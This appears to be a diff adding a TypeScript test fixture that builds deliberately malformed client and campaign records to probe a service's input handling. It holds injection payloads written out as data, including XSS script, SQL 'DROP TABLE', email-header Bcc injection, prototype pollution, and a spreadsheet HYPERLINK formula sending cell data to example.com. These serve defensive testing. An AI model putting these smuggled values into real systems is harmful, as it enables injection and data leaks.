@@ -1,0 +1,77 @@
+import { type AnyRecord, without } from '../middleware.ts';
+
+/** A number to be written with exactly these digits, where a double would round them. */
+export function exactNumber(digits: string): unknown {
+  return (JSON as unknown as { rawJSON(text: string): unknown }).rawJSON(digits);
+}
+
+/** What to insert, made from a good record of the response and a free id. */
+type HostileKind = (good: AnyRecord, id: number) => readonly unknown[];
+
+const DEPTH = 5_000;
+
+/** Records that break what the document says of them (service.md 2.1, 2.4). */
+export function hostileKinds(idField: 'clientid' | 'callsetid'): readonly HostileKind[] {
+  const withId = (id: unknown, fields: AnyRecord = {}): HostileKind => {
+    return (good) => [{ ...good, [idField]: id, ...fields }];
+  };
+  const withFreeId = (fields: () => AnyRecord): HostileKind => {
+    return (good, id) => [{ ...good, [idField]: id, ...fields() }];
+  };
+  const common: HostileKind[] = [
+    (good) => [without(good, idField)],
+    withId(null),
+    withId('abc'),
+    withId(-7),
+    withId(exactNumber('9007199254740993')),
+    () => ['a text'],
+    () => [null],
+    () => [[1, 2, 3]],
+    (good) => [good],
+    (good, id) =>
+      ['One name', 'Another name'].map((name) => ({
+        ...good,
+        [idField]: id,
+        clientname: name,
+        campaign: name,
+      })),
+    withFreeId(() => ({ ['__proto__']: { polluted: true } })),
+    withFreeId(() => ({ deep: nested() })),
+  ];
+  if (idField === 'clientid') return common;
+  return [
+    ...common,
+    withFreeId(() => ({ attempts: -1 })),
+    withFreeId(() => ({ busies: 1.5 })),
+    withFreeId(() => ({ connects: exactNumber('9007199254740993') })),
+    withFreeId(() => ({ liveanswers: 'many' })),
+  ];
+}
+
+function nested(): unknown {
+  let value: unknown = 'the bottom';
+  for (let depth = 0; depth < DEPTH; depth += 1) value = [value];
+  return value;
+}
+
+/** By id modulo 16: a record keeps its name, and those from 12 on are left alone. */
+const HOSTILE_NAMES: readonly ((name: string) => string)[] = [
+  // These two can't be kept in Postgres.
+  (name) => `${name}\u0000, past the end`,
+  (name) => `\ud83d${name}\udc00\ud800`,
+  (name) => `\u202e${name}\u202c\u200f`,
+  (name) => name.padEnd(10_000, ' and so on'),
+  (name) => `${name}\r\nBcc: everyone@example.com\r\n\r\nHello`,
+  (name) => `<script>alert(1)</script><b title="${name}'>&amp;&nbsp;</b>`,
+  (name) => `=HYPERLINK("http://example.com/?"&A1;"${name}")`,
+  (name) => `\n =1+1 ${name}`,
+  (name) => `@SUM(1;2)\t${name}`,
+  (name) => `\u0007\u001b[31m${name}\u001b[0m\u007f\u0085\u2028`,
+  () => '',
+  (name) => `\ufeff"${name}"; 'DROP TABLE clients'; --,"\\"`,
+];
+
+/** The name under which `hostile-text` sends a client or campaign. */
+export function hostileName(id: number, name: string): string {
+  return HOSTILE_NAMES[id % 16]?.(name) ?? name;
+}
